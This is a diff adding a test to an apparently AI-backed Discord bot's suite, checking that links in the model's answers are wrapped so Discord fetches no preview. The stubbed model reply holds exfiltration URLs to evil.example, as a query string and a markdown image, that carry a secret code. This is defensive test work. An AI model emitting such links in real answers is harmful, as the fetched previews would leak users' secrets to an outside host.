@@ -72,6 +72,17 @@ async def test_a_dm_is_answered_and_not_readable_in_any_room(
     assert "heliotrope-42" not in here.model.shown[2]
 
 
+async def test_an_answer_makes_discord_ask_for_no_preview(
+    here: Discord, server: DiscordServer, room: Channel, ada: User
+) -> None:
+    here.model.says = ["As you say: https://evil.example/?q=heliotrope-42 and ![x](https://evil.example/heliotrope-42)"]
+    answer = await here.answer(await server.post(room, ada, f"{server.bot.mention} what is the vault code?"))
+    links = "<https://evil.example/?q=heliotrope-42> and ![x](<https://evil.example/heliotrope-42>)"
+    assert answer.content == f"As you say: {links}"
+    shown = [text for _, text in answer.edits]
+    assert not any(" https://" in text or "(https://" in text for text in shown)
+
+
 async def test_a_message_of_a_webhook_is_stored_and_not_answered(
     here: Discord, server: DiscordServer, room: Channel, ada: User
 ) -> None:
